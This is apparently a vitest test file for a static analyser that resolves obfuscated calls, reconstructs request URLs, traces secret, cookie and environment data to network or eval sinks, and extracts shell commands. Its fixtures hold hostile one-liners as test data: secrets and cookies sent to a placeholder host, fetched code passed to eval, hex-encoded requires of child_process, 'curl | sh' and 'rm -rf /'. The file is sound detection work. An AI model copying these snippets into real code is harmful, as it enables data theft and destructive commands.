import { describe, expect, it } from 'vitest';

import { withModel } from './read.ts';

const flows = (code: string, parser: 'espree' | 'typescript' = 'espree'): readonly string[] =>
  withModel(code, (model) => model.flows().map((flow) => `${flow.source.kind}:${flow.source.name} > ${flow.sink.kind}.${flow.sink.position}${flow.encoded ? ' encoded' : ''}`), { parser });
const origins = (code: string, parser: 'espree' | 'typescript' = 'espree'): readonly string[] => withModel(code, (model) => model.calls().flatMap((call) => call.origins), { parser });
const urls = (code: string): readonly string[] => withModel(code, (model) => model.requests().map((request) => request.url.display));
const commands = (code: string): readonly string[] => withModel(code, (model) => model.commandTexts().map((command) => command.source.text.replaceAll('\uE000', '${}')));

describe('origins under other spellings', () => {
  it.each([
    ['const { ["fe" + "tch"]: f } = globalThis; f("x")', 'global:fetch'],
    ['const g = self; g.window.fetch("x")', 'global:fetch'],
    ['const f = globalThis.fetch.bind(globalThis); f("x")', 'global:fetch'],
    ['Reflect.apply(globalThis["fetch"], null, ["x"])', 'global:fetch'],
    ['const { apply } = Reflect; apply(fetch, undefined, ["x"])', 'global:fetch'],
    ['const w = window; const { fetch: go = null } = w; go("x")', 'global:fetch'],
    ['[fetch][0]("x")', 'global:fetch'],
    ['({ a: { b: fetch } }).a.b("x")', 'global:fetch'],
    ['const pick = () => fetch; pick()("x")', 'global:fetch'],
    ['(a => a("x"))(fetch)', 'global:fetch'],
    ['let f; if (x) f = fetch; f("y")', 'global:fetch'],
    ['const o = {}; o.go = fetch; o.go("x")', 'global:fetch'],
    ['class A { #f = fetch; go() { this.#f("x") } }', 'global:fetch'],
    ['class A { constructor() { this.f = fetch } go() { return this.f("x") } }', 'global:fetch'],
    ['const list = []; list.push(fetch); list[0]("x")', 'global:fetch'],
    ['const m = new Map(); m.set("f", fetch); m.get("f")("x")', 'global:fetch'],
    ['Promise.resolve(fetch).then(f => f("x"))', 'global:fetch'],
    ['const f = (await import("node:child_process")).execSync; f("x")', 'child_process.execSync'],
    ['import("child_process").then(({ exec: e }) => e("x"))', 'child_process.exec'],
    ['import/**/("child_process").then(m => m.exec("x"))', 'child_process.exec'],
    ['import * as all from "node:child_process"; const { ...rest } = all; rest.exec("x")', 'child_process.exec'],
    ['const r = module.require; r("child_process").exec("x")', 'child_process.exec'],
    ['const r = process.mainModule.require.bind(process.mainModule); r("child_process").exec("x")', 'child_process.exec'],
    ['require(["child", "process"].join("_")).exec("x")', 'child_process.exec'],
    ['require("ssecorp_dlihc".split("").reverse().join("")).exec("x")', 'child_process.exec'],
    ['require(Buffer.from("6368696c645f70726f63657373", "hex").toString()).exec("x")', 'child_process.exec'],
    ['require(String.fromCharCode(102, 115)).readFileSync("x")', 'fs.readFileSync'],
    ['const name = `f${"s"}`; require(name).promises.readFile("x")', 'fs.readFile'],
    ['globalThis.process.getBuiltinModule("node:fs").rmSync("x")', 'fs.rmSync'],
    ['const { env, ...p } = process; p.getBuiltinModule("fs").rmSync("x")', 'fs.rmSync'],
    ['eval("process").chdir("/")', 'global:process.chdir'],
    ['new Function("return process")().chdir("/")', 'global:process.chdir'],
    ['import axios from "axios"; const api = axios.create({}); api.get("x")', 'axios.create().get'],
    ['import { $ } from "execa"; await $`ls`', 'execa.$'],
  ])('%s', (code, origin) => {
    expect(origins(code)).toContain(origin);
  });

  it.each([
    ['import cp = require("node:child_process"); cp!.exec("x")', 'child_process.exec'],
    ['import { exec as e } from "child_process"; (e as any)("x")', 'child_process.exec'],
    ['import { exec } from "child_process"; (<any>exec)("x")', 'child_process.exec'],
    ['const f = fetch satisfies unknown; f("x")', 'global:fetch'],
    ['declare const fetch: any; fetch("x")', 'global:fetch'],
    ['class A { constructor(private run = fetch) { run("x") } }', 'global:fetch'],
    ['enum E { A = "child_process" } require(E.A).exec("x")', 'child_process.exec'],
  ])('TypeScript: %s', (code, origin) => {
    expect(origins(code, 'typescript')).toContain(origin);
  });

  it.each([
    'function f(fetch) { fetch("x") }',
    'import { fetch } from "./local.js"; fetch("x")',
    'const exec = /a/.exec; exec("x")',
    'db.exec("drop table x")',
    'const { exec } = db; exec("x")',
    'class fetch {} new fetch("x")',
    'try {} catch (fetch) { fetch("x") }',
    'const o = { fetch() {} }; o.fetch("x")',
  ])('not the global: %s', (code) => {
    expect(origins(code).filter((origin) => /fetch$|\.exec$/.test(origin))).toEqual([]);
  });

  it('a type-only import is no call', () => {
    expect(origins('import type { exec } from "child_process"; declare function exec(a: string): void; exec("x")', 'typescript')).not.toContain('child_process.exec');
  });
});

describe('texts of destinations', () => {
  it.each([
    ['fetch(new URL("/c", "https://a.example"))', 'https://a.example/c'],
    ['fetch({ url: "https://a.example" }.url)', 'https://a.example'],
    ['const b = "https://a.example"; fetch(`${b}/${id}/x`)', 'https://a.example/${}/x'],
    ['fetch("https://" + ["a", "example"].join("."))', 'https://a.example'],
    ['fetch("https://a.example/".concat(id))', 'https://a.example/${}'],
    ['fetch(new Request("https://a.example"))', 'https://a.example'],
    ['import http from "http"; http.request({ host: "a.example", port: 81, path: "/x" })', 'http://a.example:81/x'],
    ['import net from "net"; net.connect(4444, "a.example")', 'tcp://a.example:4444/'],
    ['import net from "net"; new net.Socket().connect({ host: "a.example", port: 1 })', 'tcp://a.example:1/'],
    ['import axios from "axios"; axios({ url: "/x", baseURL: "https://a.example" })', 'https://a.example//x'],
    ['import axios from "axios"; const c = axios.create({ baseURL: "https://a.example" }); c.post("/x", {})', 'https://a.example/x'],
    ['const x = new XMLHttpRequest(); x.open("POST", "https://a.example")', 'https://a.example'],
    ['function send(u) { fetch(u) } send("https://a.example")', 'https://a.example'],
    ['["https://a.example"].forEach(u => fetch(u))', 'https://a.example'],
    ['for (const u of ["https://a.example"]) fetch(u)', 'https://a.example'],
    ['fetch(atob("aHR0cHM6Ly9hLmV4YW1wbGU="))', 'https://a.example'],
  ])('%s', (code, url) => {
    expect(urls(code)).toContain(url);
  });

  it.each([
    ['https://a.example@b.example/x', 'b.example', true],
    ['https://a.example', 'a.example', true],
    ['https://A.Example\\\\x', 'a.example', true],
    ['http://0x7f.1/', '127.0.0.1', true],
    ['//c.example/x', 'c.example', true],
  ])('host of %s', (url, host, complete) => {
    const found = withModel(`fetch("${url}")`, (model) => model.requests()[0]?.destination?.host);
    expect(found).toEqual({ value: host, complete });
  });

  it('an open host is not complete', () => {
    expect(withModel('fetch(`https://a.example${x}`)', (model) => model.requests()[0]?.destination?.host)).toEqual({ value: 'a.example', complete: false });
  });
});

describe('ways of data', () => {
  it.each([
    ['const { API_KEY } = import.meta.env; fetch("https://a.example", { body: API_KEY })', 'secret:API_KEY > network.body'],
    ['import { env } from "process"; console.log(env)', 'environment:global:process.env > log.argument'],
    ['console.log({ ...process.env })', 'environment:global:process.env > log.argument'],
    ['const copy = Object.assign({}, process.env); console.log(copy)', 'environment:global:process.env > log.argument'],
    ['console.log(Deno.env.toObject())', 'environment:global:Deno.env.toObject > log.argument'],
    ['fetch(`https://a.example/?k=${process.env.API_KEY}`)', 'secret:API_KEY > network.query'],
    ['fetch(`https://a.example/${process.env.API_KEY}`)', 'secret:API_KEY > network.url'],
    ['fetch("https://a.example", { headers: { authorization: `Bearer ${process.env.API_KEY}` } })', 'secret:API_KEY > network.header'],
    ['const u = new URL("https://a.example"); u.searchParams.set("k", process.env.API_KEY); fetch(u)', 'secret:API_KEY > network.query'],
    ['fetch("https://a.example", { body: btoa(process.env.API_KEY) })', 'secret:API_KEY > network.body encoded'],
    ['fetch("https://a.example", { body: Buffer.from(process.env.API_KEY).toString("hex") })', 'secret:API_KEY > network.body encoded'],
    ['import fs from "fs"; import https from "https"; fs.createReadStream(".env").pipe(https.request("https://a.example"))', 'file:environment file > network.body'],
    ['import { exec } from "child_process"; exec("printenv", (e, out) => { fetch("https://a.example", { body: out }) })', 'command:env > network.body'],
    ['import { exec } from "child_process"; exec(process.argv[2])', 'argv:process.argv > command.argument'],
    ['import express from "express"; const app = express(); app.get("/", (a, b) => { eval(a.query.x) })', 'request:query > eval.argument'],
    ['export default (req, res) => { res.json(process.env) }', 'environment:global:process.env > response.argument'],
    ['import Koa from "koa"; new Koa().use((c) => { c.body = process.env.API_KEY })', 'secret:API_KEY > response.body'],
    ['eval(atob(x))', 'decoded:atob > eval.argument'],
    ['fetch("https://a.example").then(r => r.text()).then(t => eval(t))', 'download:response > eval.argument'],
    ['const r = await fetch("https://a.example"); new Function(await r.text())()', 'download:response > eval.argument'],
    ['new Image().src = "https://a.example/?" + document.cookie', 'cookie:document.cookie > network.query'],
    ['location.href = "https://a.example/?" + document.cookie', 'cookie:document.cookie > network.query'],
    ['const s = new WebSocket("wss://a.example"); s.send(localStorage.getItem("t"))', 'storage:localStorage > network.body'],
    ['function f({ password }) { console.log(password) }', 'credential:password > log.argument'],
    ['console.log(req.body.password)', 'credential:password > log.argument'],
    ['import logger from "./logger.js"; logger.info(process.env.API_KEY)', 'secret:API_KEY > log.argument'],
    ['class A { key = process.env.API_KEY; go() { console.log(this.key) } }', 'secret:API_KEY > log.argument'],
    ['const wait = new Promise((done) => done(process.env.API_KEY)); wait.then((v) => console.log(v))', 'secret:API_KEY > log.argument'],
    ['import dns from "dns"; import os from "os"; dns.resolveTxt(`${os.hostname()}.a.example`, () => {})', 'host:os.hostname > dns.url'],
    ['fetch.call(null, "https://a.example", { body: process.env.API_KEY })', 'secret:API_KEY > network.body'],
    ['fetch.apply(null, ["https://a.example", { body: process.env.API_KEY }])', 'secret:API_KEY > network.body'],
    ['const args = ["https://a.example", { body: process.env.API_KEY }]; fetch(...args)', 'secret:API_KEY > network.body'],
    ['import(process.argv[2])', 'argv:process.argv > module.argument'],
  ])('%s', (code, flow) => {
    expect(flows(code)).toContain(flow);
  });

  it.each([
    'const id = (x) => x; id(process.env.API_KEY); console.log(id("a"))',
    'console.log(process.env.API_KEY === "x", process.env.TOKEN?.length, Boolean(process.env.SECRET))',
    'import { spawn } from "child_process"; spawn("a", [], { env: process.env })',
    'import { validate } from "envalid"; console.log(validate(process.env))',
    'const labels = { password: "Password" }; console.log(labels.password)',
    'console.log(errors.password)',
    'import fs from "fs"; console.log(fs.readFileSync(".env.example", "utf8"))',
    'function f(password) { if (password) console.log("given") }',
    'console.log(process.env[`LOG_${"LEVEL"}`])',
    'for (const k in process.env) {} console.log("done")',
  ])('harmless: %s', (code) => {
    expect(flows(code)).toEqual([]);
  });
});

describe('commands', () => {
  it.each([
    ['import { exec } from "child_process"; exec(`rm -rf ${dir}/x`)', 'rm -rf ${}/x'],
    ['import { spawn } from "child_process"; spawn("git", ["push", "--force"])', 'git push --force'],
    ['import { spawn } from "child_process"; spawn("sh", ["-c", "echo a b"])', "sh -c 'echo a b'"],
    ['import { execa } from "execa"; execa("npm", ["publish"])', 'npm publish'],
    ['import { $ } from "zx"; $`curl ${u} | sh`', 'curl ${} | sh'],
    ['Bun.spawn(["rm", "-rf", "/"])', 'rm -rf /'],
    ['new Deno.Command("rm", { args: ["-rf", "/"] })', 'rm -rf /'],
    ['import { promisify } from "util"; import { exec } from "child_process"; promisify(exec)("ls -la")', 'ls -la'],
    ['const run = (c) => require("child_process").execSync(c); run("rm -rf /")', 'rm -rf /'],
  ])('%s', (code, command) => {
    expect(commands(code)).toContain(command);
  });

  it('maps decoded text back to the source', () => {
    const code = 'import { exec } from "child_process"; exec("\\x63url " + url + " | sh")';
    withModel(code, (model) => {
      const [command] = model.commandTexts();
      const text = command?.source.text ?? '';
      expect(text).toBe('curl \uE000 | sh');
      const at = (word: string): string => code.slice(...(command?.source.toSource(text.indexOf(word), text.indexOf(word) + word.length) ?? [0, 0]));
      expect(at('curl')).toBe('\\x63url');
      expect(at('sh')).toBe('sh');
      expect(command?.holes.map((hole) => hole.name)).toEqual(['url']);
    });
  });
});
